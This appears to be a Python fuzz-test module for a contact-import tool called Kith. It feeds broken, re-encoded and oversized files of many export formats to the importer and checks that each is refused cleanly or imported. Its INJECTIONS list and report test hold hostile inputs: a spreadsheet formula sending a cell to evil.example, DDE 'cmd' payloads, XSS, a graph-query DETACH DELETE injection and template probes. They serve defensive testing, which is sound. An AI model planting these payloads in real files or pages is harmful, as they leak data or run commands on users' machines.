"""Hostile files for every format Kith detects: each is refused with a clear error or imported right.

For every format in ``loaders.records.FORMATS`` there is a valid sample (and, where
``shared/realworld`` has them, real exports). From each comes a corpus of broken, truncated,
re-encoded (UTF-16 with and without a BOM, Latin-1, invalid UTF-8), binary, line-ending and
injection variants, and Hypothesis mutations (byte flips, truncation, repeated and dropped
lines) on top. Whatever the file:

- either ``import_file`` raises a ``KithError`` whose message starts with the file's path and
  whose line, when it names one, is a line of the file; and the graph is exactly as it was
  (every node and relationship with every property compared);
- or the file is imported, and the next one gets a graph that still works;
- never another exception, and never more than ``CASE_SECONDS`` for one file.

Huge inputs are measured in a child process (time and peak memory), and every report runs over
a graph of hostile-but-valid records: names that are formulas, HTML or Rich markup, dates at
the very edges of what Kith takes, an event too big for pairwise ties.
"""

from __future__ import annotations

import codecs
import csv
import io
import json
import tempfile
import time
from datetime import datetime, timedelta, timezone
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from graph import projection
from graph.projection import PAIRWISE_GROUP_MAX
from kith import clock
from kith.errors import KithError
from kith.export import compose, dumps
from loaders.detect import detect
from loaders.examples.make_zips import build as build_zip
from loaders.importer import import_file
from loaders.limits import EARLIEST, latest
from loaders.records import FORMATS, LoadError
from reports import registry, render
from tests.conftest import ROOT, run_kith
from tests.hostile import OWNER, graph_dump, measured_python

CASE_SECONDS = 10
REALWORLD = ROOT.parent / "shared" / "realworld"
OWNER_EMAIL = OWNER.emails[0]

# Names that are something else too: a spreadsheet formula, HTML, Rich markup, a query, a template.
INJECTIONS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "<img src=x onerror=alert(1)>",
    "[link=http://evil.example]Ana[/link]",
    "[/]",
    "[bold red]Mallory[/bold red] Souza",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd Lee",
    "Robert'); MATCH (n) DETACH DELETE n; //",
    "{{7*7}} ${7*7} Tan",
    "‮evil.exe Kim",  # a right-to-left override
]


# -- a valid file of every format ---------------------------------------------------------


def _csv(rows: list[list[str]]) -> str:
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows(rows)
    return out.getvalue()


def _email(n: int) -> str:
    return f"person{n}@example.org"


def kith_csv(names: list[str]) -> str:
    rows = [["record", "name", "email", "birthday", "with", "at", "channel", "summary", "a", "b"]]
    rows += [["person", name, _email(n), "1990-05-17", "", "", "", "", "", ""] for n, name in enumerate(names)]
    rows += [["interaction", "", "", "", _email(n), f"2025-0{1 + n % 9}-1{n % 10}", "call", name, "", ""]
             for n, name in enumerate(names)]
    rows += [["knows", "", "", "", "", "", "", "", _email(0), _email(n)] for n in range(1, len(names))]
    return _csv(rows)


def kith_json(names: list[str]) -> str:
    return json.dumps({
        "people": [{"name": name, "email": _email(n), "birthday": "--02-29", "tags": ["hostile"]}
                   for n, name in enumerate(names)],
        "interactions": [{"at": f"2025-0{1 + n % 9}-1{n % 10} 18:30", "with": [_email(n)], "channel": "in-person",
                          "kind": "catch-up", "summary": name} for n, name in enumerate(names)],
        "favors": [{"at": "2025-03-01", "with": _email(0), "direction": "received", "kind": "advice"}],
        "introductions": [{"at": "2025-04-01", "a": _email(0), "b": _email(1)}] if len(names) > 1 else [],
        "knows": [{"a": _email(0), "b": _email(n)} for n in range(1, len(names))],
    }, ensure_ascii=False, indent=1)


def _vcard_text(value: str) -> str:
    return value.replace("\\", "\\\\").replace(",", "\\,").replace(";", "\\;").replace("\n", "\\n")


def vcard(names: list[str]) -> str:
    return "".join(f"BEGIN:VCARD\r\nVERSION:3.0\r\nFN:{_vcard_text(name)}\r\nN:{_vcard_text(name)};;;;\r\n"
                   f"EMAIL;TYPE=INTERNET:{_email(n)}\r\nTEL;TYPE=CELL:+44 7700 900{n:03d}\r\nBDAY:1990-05-17\r\n"
                   f"NOTE:{_vcard_text(name)}\r\nEND:VCARD\r\n" for n, name in enumerate(names))


def _ical_param(value: str) -> str:
    return '"' + value.replace('"', "'") + '"'  # a parameter value cannot hold a double quote (RFC 5545)


def ical(names: list[str]) -> str:
    events = "".join(
        f"BEGIN:VEVENT\r\nUID:event-{n}@kith.test\r\nDTSTART:2025{1 + n % 9:02d}1{n % 10}T090000Z\r\n"
        f"DTEND:2025{1 + n % 9:02d}1{n % 10}T100000Z\r\nSUMMARY:{_vcard_text(name)}\r\n"
        + ("RRULE:FREQ=WEEKLY;COUNT=3\r\nEXDATE:20250117T090000Z\r\n" if n == 0 else "")
        + f"ORGANIZER;CN=Alex Morgan:mailto:{OWNER_EMAIL}\r\n"
        f"ATTENDEE;CN={_ical_param(name)};PARTSTAT=ACCEPTED:mailto:{_email(n)}\r\nEND:VEVENT\r\n"
        for n, name in enumerate(names))
    return f"BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//Kith fuzz//EN\r\n{events}END:VCALENDAR\r\n"


def linkedin_connections(names: list[str]) -> str:
    notes = 'Notes:\n"When exporting your connection data, you may notice that some addresses are missing."\n\n'
    return notes + _csv([["First Name", "Last Name", "URL", "Email Address", "Company", "Position", "Connected On"]]
                        + [[name, "Souza", f"https://www.linkedin.com/in/person-{n}", _email(n), "Acme", name,
                            "12 Mar 2021"] for n, name in enumerate(names)])


def linkedin_messages(names: list[str]) -> str:
    me = "https://www.linkedin.com/in/alexmorgan"
    return _csv([["CONVERSATION ID", "CONVERSATION TITLE", "FROM", "SENDER PROFILE URL", "TO",
                  "RECIPIENT PROFILE URLS", "DATE", "SUBJECT", "CONTENT", "FOLDER"]]
                + [[f"conv-{n}", "", name, f"https://www.linkedin.com/in/person-{n}", "Alex Morgan", me,
                    f"2025-0{1 + n % 9}-05 14:03:11 UTC", "", f"Hello from {name}", "INBOX"]
                   for n, name in enumerate(names)])


def google_csv(names: list[str]) -> str:
    return "\ufeff" + _csv([["First Name", "Middle Name", "Last Name", "Nickname", "Organization Name",
                             "Organization Title", "Birthday", "Notes", "Labels", "E-mail 1 - Label",
                             "E-mail 1 - Value", "Phone 1 - Label", "Phone 1 - Value"]]
                           + [[name, "", "Souza", "", "Acme", "", "1988-05-17", name, "* myContacts ::: Work",
                               "Work", _email(n), "Mobile", f"07700 900{n:03d}"] for n, name in enumerate(names)])


def outlook_csv(names: list[str]) -> str:
    return _csv([["First Name", "Middle Name", "Last Name", "E-mail Address", "Mobile Phone", "Birthday",
                  "Company", "Job Title", "Notes", "Categories"]]
                + [[name, "", "Lee", _email(n), f"07700 900{n:03d}", "5/17/1990", "Acme", "", name, "Work"]
                   for n, name in enumerate(names)])


def edgelist(names: list[str]) -> str:
    return "# SNAP-style messages\nsrc dst time\n" + "".join(
        f"{n} {n + 1} {1082040961 + 3600 * n}\n" for n in range(max(len(names), 3)))


def kith_export(names: list[str]) -> str:
    nodes = [{"labels": ["Person"], "props": {"id": f"p-{n}", "name": name}} for n, name in enumerate(names)]
    return dumps(compose(nodes, [], exported_at=datetime(2026, 1, 1, tzinfo=timezone.utc)))


def linkedin_contacts(names: list[str]) -> str:
    return _csv([["Source", "FirstName", "LastName", "Companies", "Title", "Emails", "PhoneNumbers", "CreatedAt",
                  "FullName", "Profiles"]]
                + [["GOOGLE_CONTACTS", name, "Souza", "Acme", "null", _email(n), f"07700 900{n:03d}",
                    "4/19/21, 2:16 PM", f"{name} Souza", "null"] for n, name in enumerate(names)])


def mbox(names: list[str]) -> str:
    return "".join(
        f"From sender{n}@example.org Wed Mar  5 14:03:11 2025\nFrom: \"{name}\" <{_email(n)}>\n"
        f"To: Alex Morgan <{OWNER_EMAIL}>\nDate: Wed, 0{1 + n % 9} Mar 2025 14:03:11 +0000\n"
        f"Message-ID: <m{n}@example.org>\nSubject: {name}\n\nHello from {name}\n\n" for n, name in enumerate(names))


def whatsapp(names: list[str]) -> str:
    return "".join(f"[{13 + n % 15}/03/2025, 14:03:11] {name}: Hello from {name}\n"
                   f"[{13 + n % 15}/03/2025, 15:00:00] Alex Morgan: Hi {name}\n" for n, name in enumerate(names))


def telegram(names: list[str]) -> str:
    chats = [{"name": name, "type": "personal_chat", "id": 100 + n, "messages": [
        {"id": 1, "type": "message", "date": f"2025-03-0{1 + n % 9}T14:03:11",
         "date_unixtime": str(1740837791 + 86400 * n), "from": name, "from_id": f"user{100 + n}",
         "text": f"Hello from {name}"}]} for n, name in enumerate(names)]
    return json.dumps({"personal_information": {"user_id": 1, "first_name": "Alex", "last_name": "Morgan"},
                       "chats": {"list": chats}}, ensure_ascii=False, indent=1)


BUILDERS = {
    "kith-csv": kith_csv, "kith-json": kith_json, "vcard": vcard, "ical": ical,
    "linkedin-connections": linkedin_connections, "linkedin-messages": linkedin_messages,
    "google-csv": google_csv, "outlook-csv": outlook_csv, "edgelist": edgelist, "kith-export": kith_export,
    "linkedin-contacts": linkedin_contacts, "mbox": mbox, "whatsapp": whatsapp, "telegram": telegram,
}
PLAIN_NAMES = ["Ana Souza", "Björn Lindqvist", "Zoë Ǽgean", "Łukasz Nowak"]
SAMPLES = {fmt: build(PLAIN_NAMES).encode("utf-8") for fmt, build in BUILDERS.items()}


def _zip_sample(folder: str) -> bytes:
    """The example archive built from its folder under ``loaders/examples`` (as ``make_zips`` builds it)."""
    with tempfile.TemporaryDirectory() as d:
        return build_zip(ROOT / "loaders" / "examples" / folder, Path(d) / "sample.zip").read_bytes()


ARCHIVES = {"linkedin-zip": "linkedin-export", "takeout-zip": "takeout"}
SAMPLES |= {fmt: _zip_sample(folder) for fmt, folder in ARCHIVES.items()}
REAL_SAMPLES = {  # real exports written by other software (shared/realworld), where present
    "vcard": "vcard/ez-vcard__John_Doe_IPHONE.vcf",
    "ical": "ical/ox-appsuite__google_2016_full.ics",
    "google-csv": "google-csv/gmail-to-google-contacts__google_contacts.csv",
    "outlook-csv": "outlook-csv/ox-appsuite__outlook_2013_en.csv",
}
EXTENSION = {"vcard": "vcf", "ical": "ics", "kith-json": "json", "kith-export": "json", "edgelist": "txt",
             "mbox": "mbox", "whatsapp": "txt", "telegram": "json", "linkedin-zip": "zip", "takeout-zip": "zip"}


def sample_file(tmp_path: Path, fmt: str, data: bytes, variant: str = "sample") -> Path:
    path = tmp_path / f"{fmt}-{variant}.{EXTENSION.get(fmt, 'csv')}"
    path.write_bytes(data)
    return path


def real_sample(fmt: str) -> bytes | None:
    path = REALWORLD / REAL_SAMPLES[fmt] if fmt in REAL_SAMPLES else None
    return path.read_bytes() if path and path.exists() else None


# -- what every import must do -------------------------------------------------------------


def physical_lines(data: bytes) -> int:
    return data.count(b"\n") + data.count(b"\r") - data.count(b"\r\n") + 1


def import_or_refuse(store, path: Path, *, seconds: float = CASE_SECONDS):
    """Import ``path``: the result, or the KithError, after checking it is a clear one that wrote nothing."""
    before = graph_dump(store)
    started = time.monotonic()
    try:
        result = import_file(store, path)
    except KithError as e:
        assert str(e).startswith(f"{path}"), f"the error does not name the file: {e}"
        # A member of an archive is named "archive.zip › member": its line is the member's.
        if isinstance(e, LoadError) and e.line is not None and " › " not in e.path:
            # UTF-16 files have their line breaks in two bytes each: the count is an upper bound there.
            assert 1 <= e.line <= physical_lines(path.read_bytes()), f"line {e.line} is no line of the file: {e}"
        assert graph_dump(store) == before, f"{path}: refused, yet the graph changed ({e})"
        outcome = e
    except Exception as e:  # any other exception is what this test is for
        pytest.fail(f"{path.name}: {type(e).__name__} instead of a Kith error: {e}")
    else:
        outcome = result
    elapsed = time.monotonic() - started
    assert elapsed < seconds, f"{path.name} took {elapsed:.1f}s"
    return outcome


@pytest.fixture
def owned(store):
    store.upsert_people([OWNER])
    return store


# -- the corpus ------------------------------------------------------------------------------


def test_every_format_kith_detects_has_a_sample_that_imports(owned, tmp_path):
    """A new format without a fuzz sample fails here: the corpus covers every one."""
    assert set(SAMPLES) == set(FORMATS)
    for fmt, data in SAMPLES.items():
        path = sample_file(tmp_path, fmt, data)
        assert detect(path) == fmt
        outcome = import_or_refuse(owned, path)
        if fmt == "kith-export":  # restores only into an empty home, and this one has an owner
            assert isinstance(outcome, LoadError) and "restores only into an empty home" in str(outcome)
        else:
            assert not isinstance(outcome, Exception), outcome


def _variants(data: bytes) -> dict[str, bytes]:
    text = data.decode("utf-8-sig")
    lines = data.splitlines(keepends=True)
    middle = len(data) // 2
    return {
        "empty": b"",
        "only-a-bom": codecs.BOM_UTF8,
        "blank": b" \n\n\t\r\n",
        "truncated-half": data[:middle],
        "truncated-third": data[:len(data) // 3],
        "truncated-last-byte": data[:-1],
        "nul-byte": data[:middle] + b"\x00" + data[middle:],
        "control-byte": data[:middle] + b"\x1b[31m" + data[middle:],
        "utf16-bom": text.encode("utf-16"),
        "utf16-be-no-bom": text.encode("utf-16-be"),
        "utf16-odd-length": text.encode("utf-16")[:-1],
        "latin1": text.encode("latin-1", errors="replace"),
        "invalid-utf8": data[:middle] + b"\xff\xfe\xfd" + data[middle:],
        "cut-utf8-character": data.replace("ö".encode(), "ö".encode()[:1], 1),
        "cr-only": data.replace(b"\r\n", b"\n").replace(b"\n", b"\r"),
        "crlf": data.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n"),
        "every-line-twice": b"".join(line + line for line in lines),
        "lines-reversed": b"".join(reversed(lines)),
        "no-final-newline": data.rstrip(b"\r\n"),
        "binary": bytes(range(256)) * 8,
        "html": b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>\n",
    }


@pytest.mark.parametrize("fmt", sorted(BUILDERS))
def test_hostile_variants_of_every_format(owned, tmp_path, fmt):
    bases = {"sample": SAMPLES[fmt]}
    if real_sample(fmt):
        bases["real"] = real_sample(fmt)
    refused = 0
    for base_name, data in bases.items():
        base = import_or_refuse(owned, sample_file(tmp_path, fmt, data, base_name))
        for variant, mutated in _variants(data).items():
            outcome = import_or_refuse(owned, sample_file(tmp_path, fmt, mutated, f"{base_name}-{variant}"))
            refused += isinstance(outcome, Exception)
            # A mailbox holds binary parts: a stray byte costs at most the message it is in (never the file).
            stray = ("nul-byte", "control-byte") if fmt == "mbox" else ()
            if variant in ("nul-byte", "binary", "control-byte", "empty", "blank", "only-a-bom") and variant not in stray:
                assert isinstance(outcome, LoadError), f"{fmt} {variant} was imported"
            # The same text: the same answer (an mbox is bytes as mail carries them: UTF-16 is no mailbox).
            if variant in ("utf16-bom", "utf16-be-no-bom", "crlf") and not (fmt == "mbox" and variant != "crlf"):
                assert isinstance(outcome, Exception) == isinstance(base, Exception), f"{fmt} {variant}: {outcome}"
    assert refused >= 6  # the checks above ran on refusals, not only on imports


def test_refusals_name_the_line_where_there_is_one(owned, tmp_path):
    card = SAMPLES["vcard"].decode()
    cases = {
        "nul.vcf": (card.replace("NOTE:Björn", "NOTE:Bj\x00rn"), "binary data (a NUL byte)",
                    card.count("\r\n", 0, card.index("NOTE:Björn")) + 1),
        "open.vcf": ("BEGIN:VCARD\r\nVERSION:4.0\r\nFN:Open\r\n", "BEGIN:VCARD has no END:VCARD", 1),
        "row.csv": (SAMPLES["kith-csv"].decode() + "person,too,many,cells,,,,,,,\n", "row has 11 cells",
                    SAMPLES["kith-csv"].decode().count("\n") + 1),
        "bad.json": ('{"people": [\n{"name": "Ana"},\n{"name": }\n]}', "not valid JSON", 3),
        "edges.txt": ("1 2 1082040961\n" * 6 + "2 3 yesterday\n", "expected whole numbers", 7),
    }
    for name, (text, message, line) in cases.items():
        path = tmp_path / name
        path.write_text(text, encoding="utf-8")
        error = import_or_refuse(owned, path)
        assert isinstance(error, LoadError) and message in error.reason and error.line == line, (name, error)


# -- mutations of valid samples, by Hypothesis ----------------------------------------------


@st.composite
def mutated(draw, data: bytes) -> bytes:
    """``data`` with one to three of: a flipped bit, a cut, a line repeated, dropped or swapped, bytes put in."""
    for _ in range(draw(st.integers(1, 3))):
        lines = data.splitlines(keepends=True) or [b""]
        op = draw(st.sampled_from(["flip", "truncate", "repeat-line", "drop-line", "swap-lines", "insert"]))
        if op == "flip" and data:
            at, bit = draw(st.integers(0, len(data) - 1)), draw(st.integers(0, 7))
            data = data[:at] + bytes([data[at] ^ (1 << bit)]) + data[at + 1:]
        elif op == "truncate":
            data = data[:draw(st.integers(0, len(data)))]
        elif op == "repeat-line":
            at = draw(st.integers(0, len(lines) - 1))
            data = b"".join(lines[:at + 1] + [lines[at]] * draw(st.integers(1, 50)) + lines[at + 1:])
        elif op == "drop-line":
            at = draw(st.integers(0, len(lines) - 1))
            data = b"".join(lines[:at] + lines[at + 1:])
        elif op == "swap-lines" and len(lines) > 1:
            a, b = draw(st.integers(0, len(lines) - 1)), draw(st.integers(0, len(lines) - 1))
            lines[a], lines[b] = lines[b], lines[a]
            data = b"".join(lines)
        elif op == "insert":
            at = draw(st.integers(0, len(data)))
            data = data[:at] + draw(st.sampled_from([b"\x00", b"\xff", b"\r", b"\n", b",", b'"', b";", b":", b"{",
                                                     b"[" * 200, b"BEGIN:VEVENT\r\n", b"\\", "é".encode()])) + data[at:]
    return data


MUTATION_BASES = ([(fmt, "sample") for fmt in sorted([*BUILDERS, *ARCHIVES])]
                  + [(fmt, "real") for fmt in sorted(REAL_SAMPLES)])


@pytest.mark.parametrize("fmt, base", MUTATION_BASES)
def test_mutations_of_valid_files(owned, tmp_path_factory, fmt, base):
    data = SAMPLES[fmt] if base == "sample" else real_sample(fmt)
    if data is None:
        pytest.skip("shared/realworld not present")
    folder = tmp_path_factory.mktemp(f"mutations-{fmt}")
    seen = iter(range(10**6))

    @settings(derandomize=True, max_examples=12, deadline=None, database=None,
              suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])
    @given(mutated(data))
    def imports_or_refuses(variant: bytes) -> None:
        import_or_refuse(owned, sample_file(folder, fmt, variant, f"{base}-{next(seen)}"))

    imports_or_refuses()


# -- huge inputs: bounded time and memory, measured in a child process ---------------------

_PARSE = ("from pathlib import Path\nfrom loaders.parse import parse_file\nfrom loaders.records import ParseOptions\n"
          "from kith.errors import KithError")


def _parse_in_child(path: Path) -> dict:
    return measured_python(_PARSE, f"""
try:
    parsed = parse_file(Path({str(path)!r}), ParseOptions(owner_emails=frozenset({{{OWNER_EMAIL!r}}})))
    result = ["imported", len(parsed.contacts), len(parsed.activities)]
except KithError as e:
    result = ["refused", str(e)]
""")


def _huge_files(tmp_path: Path) -> dict[str, tuple[Path, str]]:
    """name -> (file, what must happen: "refused" or "imported")."""
    files = {}

    def write(name: str, chunks, expect: str) -> None:
        path = tmp_path / name
        with path.open("wb") as f:
            for chunk in chunks:
                f.write(chunk)
        files[name] = (path, expect)

    card = b"BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Ana Souza\r\nEMAIL:ana@example.org\r\n"
    write("unterminated.vcf", (card for _ in range(250_000)), "refused")  # 15 MB, no END:VCARD
    write("one-line.csv", [b"First Name,Last Name,Labels\n", b"A" * (30 * 1024 * 1024)], "refused")
    write("one-line.vcf", [b"BEGIN:VCARD\r\nVERSION:3.0\r\nFN:", b"A" * (30 * 1024 * 1024), b"\r\nEND:VCARD\r\n"],
          "refused")
    write("deep.json", [b'{"people": ', b"[" * 5_000_000, b"]" * 5_000_000, b"}"], "refused")
    event = (b"BEGIN:VEVENT\r\nUID:%d@x\r\nDTSTART:20250101T090000Z\r\nRRULE:FREQ=MINUTELY\r\n"
             b"ORGANIZER:mailto:" + OWNER_EMAIL.encode() + b"\r\nATTENDEE:mailto:a@example.org\r\nEND:VEVENT\r\n")
    write("many-minutely.ics", [b"BEGIN:VCALENDAR\r\n", *(event % n for n in range(300)), b"END:VCALENDAR\r\n"],
          "imported")
    people = ",".join(json.dumps({"name": f"Person {n}", "email": f"p{n}@example.org"}) for n in range(100_000))
    write("many-people.json", [b'{"people": [', people.encode(), b"]}"], "imported")
    return files


@pytest.mark.parametrize("name", ["unterminated.vcf", "one-line.csv", "one-line.vcf", "deep.json",
                                  "many-minutely.ics", "many-people.json"])
def test_huge_inputs_take_bounded_time_and_memory(tmp_path, name):
    path, expect = _huge_files(tmp_path)[name]
    found = _parse_in_child(path)
    assert found["result"][0] == expect, found
    if expect == "refused":
        assert found["result"][1].startswith(str(path)), found
    size_mb = path.stat().st_size / 2**20
    # Generous: a regression of an order of magnitude fails, noise on a shared machine does not.
    assert found["seconds"] < 60, found
    assert found["growth_mb"] < 400 + 12 * size_mb, found


# -- hostile but valid: every report runs -----------------------------------------------------


def _edge_dates_history() -> str:
    last = latest()
    names = INJECTIONS
    people = [{"name": name, "email": _email(n), "birthday": b, "tags": ["=cmd|' /C calc'!A0", "[/]"],
               "skills": ["<script>alert(1)</script>"], "needs": ["[link=http://x]a[/link]"], "cadence": 7}
              for n, (name, b) in enumerate(zip(names, ["1900-01-01", "--02-29", "2000-02-29", "1990-12-31",
                                                        "1900-12-02", "--12-02", "1985-12-03", "--01-01",
                                                        "1999-06-15", "1970-01-01"]))]
    dates = [EARLIEST.isoformat(), "1900-01-01 00:00", "1969-12-31T23:59:59+00:00", "2000-02-29",
             "2026-12-01", "2026-12-02 23:59", f"{last.isoformat()} 00:00", last.isoformat(),
             "2024-02-29 12:00", "2026-11-30"]
    interactions = [{"at": at, "with": [_email(n)], "channel": "video", "kind": "thank-you" if n % 3 else "catch-up",
                     "summary": names[(n + 1) % len(names)]} for n, at in enumerate(dates)]
    interactions.append({"at": "2026-06-01", "with": [_email(n) for n in range(len(names))], "channel": "in-person",
                         "kind": "catch-up", "summary": "Everyone"})
    return json.dumps({
        "people": people,
        "interactions": interactions,
        "favors": [{"at": d, "with": _email(n), "direction": ("given", "received", "asked")[n % 3],
                    "kind": names[n], "status": "pending", "note": names[-1 - n]}
                   for n, d in enumerate([EARLIEST.isoformat(), last.isoformat(), "2026-12-02"])],
        "introductions": [{"at": "2026-01-01", "a": _email(1), "b": _email(2), "note": names[0]}],
        "knows": [{"a": _email(n), "b": _email(n + 1), "since": EARLIEST.isoformat()} for n in range(len(names) - 1)],
    }, ensure_ascii=False)


def _big_event() -> str:
    guests = "".join(f"ATTENDEE;CN=Guest {n}:mailto:guest{n}@example.org\r\n" for n in range(PAIRWISE_GROUP_MAX * 3))
    return ("BEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\nUID:conference@kith.test\r\n"
            "DTSTART:20260915T090000Z\r\nSUMMARY:=HYPERLINK(\"http://evil.example\")\r\n"
            f"ORGANIZER;CN=Alex Morgan:mailto:{OWNER_EMAIL}\r\n{guests}END:VEVENT\r\nEND:VCALENDAR\r\n")


def test_every_report_runs_on_hostile_but_valid_records(owned, tmp_path):
    files = {"history.json": _edge_dates_history(), "conference.ics": _big_event(),
             **{f"injected.{EXTENSION.get(fmt, 'csv')}": BUILDERS[fmt](INJECTIONS)
                for fmt in ("vcard", "google-csv")}}
    for name, text in files.items():
        path = tmp_path / name
        path.write_text(text, encoding="utf-8")
        result = import_or_refuse(owned, path)
        assert not isinstance(result, Exception), result
    stored = {r["name"] for r in owned.read("MATCH (p:Person) RETURN p.name AS name")}
    assert set(INJECTIONS) <= stored  # kept as written: escaping is for whoever shows them
    P = projection.load(owned)
    for as_of in (clock.today(), clock.today() + timedelta(days=30), EARLIEST, latest()):
        for name, report in registry.REPORTS.items():
            extra = {"description": "=cmd|' /C calc'!A0, <img src=x>, [/]"} if "description" in report.takes else {}
            frame = report.run(P, as_of, **extra)
            for fmt in render.FORMATS:
                render.render(name, frame, fmt, as_of=as_of)
    for name in registry.PLAIN:
        done = run_kith("report", name, "--format", "md")
        assert done.returncode == 0, (name, done.stderr)


# -- what fuzzing found (each was a traceback) -------------------------------------------------


def _calendar(*lines: str) -> str:
    good = ("BEGIN:VEVENT", "UID:good@kith.test", "DTSTART:20250301T090000Z", "SUMMARY:Good",
            f"ORGANIZER:mailto:{OWNER_EMAIL}", "ATTENDEE;CN=Ana Souza:mailto:ana@example.org", "END:VEVENT")
    return "\r\n".join(("BEGIN:VCALENDAR", "VERSION:2.0", *lines, *good, "END:VCALENDAR", ""))


_BAD = ("BEGIN:VEVENT", "UID:bad@kith.test", "SUMMARY:Bad", f"ORGANIZER:mailto:{OWNER_EMAIL}",
        "ATTENDEE:mailto:bo@example.org")


def test_an_event_inside_an_event_leaves_the_outer_one_out_at_its_line(tmp_path):
    """The outer VEVENT's missing DTSTART was looked for in the inner one, then a KeyError."""
    from loaders.parse import parse_file
    from loaders.records import ParseOptions

    path = tmp_path / "calendar.ics"
    path.write_text(_calendar("BEGIN:VEVENT", "UID:outer", "BEGIN:VEVENT", "UID:inner", "DTSTART:20250110T090000Z",
                              "END:VEVENT", "END:VEVENT"), encoding="utf-8")
    skipped = parse_file(path, ParseOptions()).skipped
    assert (3, "BEGIN:VEVENT has no END:VEVENT (the next BEGIN:VEVENT is at line 5): the event (no SUMMARY) "
               "left out") in skipped
    assert (9, "END:VEVENT without BEGIN:VEVENT: left out") in skipped


@pytest.mark.parametrize("lines, line, reason", [
    ((*_BAD, "DTSTART:20250110T090000Z", "RRULE:FREQ=DAILY;,COUNT=5", "END:VEVENT"), 3,
     "recurring event cannot be expanded (UNTIL parameter is missing: FREQ=DAILY;,COUNT=5): 'Bad' left out"),
    ((*_BAD, "DTSTART:20250110T090000Z", "DTEND:60250110T100000Z", "END:VEVENT"), 3,
     "recurring event cannot be expanded (date value out of range): left out"),
    ((*_BAD, "DTSTART:20250110T090000Z", "RRULE:FREQ5WEEKLY;COUNT=3", "END:VEVENT"), 9,
     "RRULE has no FREQ: 'Bad' kept as one event"),
    (("X-WR-TIMEZONE:Europe/BerLin",), 3, "X-WR-TIMEZONE 'Europe/BerLin' is no time zone: left out, times read as "
                                          "written"),
    ((*_BAD, "DTSTART:20250110T090000Z", "DTSTART:20250111T090000Z", "END:VEVENT"), 9,
     "DTSTART repeated in one VEVENT (first at line 8): left out"),
    ((*_BAD, "UID:bad-again@kith.test", "DTSTART:20250110T090000Z", "END:VEVENT"), 8,
     "UID repeated in one VEVENT (first at line 4): left out"),
])
def test_a_damaged_event_is_left_out_with_its_line_and_the_rest_kept(tmp_path, lines, line, reason):
    from loaders.parse import parse_file
    from loaders.records import ParseOptions

    path = tmp_path / "calendar.ics"
    path.write_text(_calendar(*lines), encoding="utf-8")
    parsed = parse_file(path, ParseOptions(owner_emails=frozenset({OWNER_EMAIL})))
    assert (line, reason) in parsed.skipped
    assert "good@kith.test/2025-03-01T09:00:00Z" in {a.source_id for a in parsed.activities}
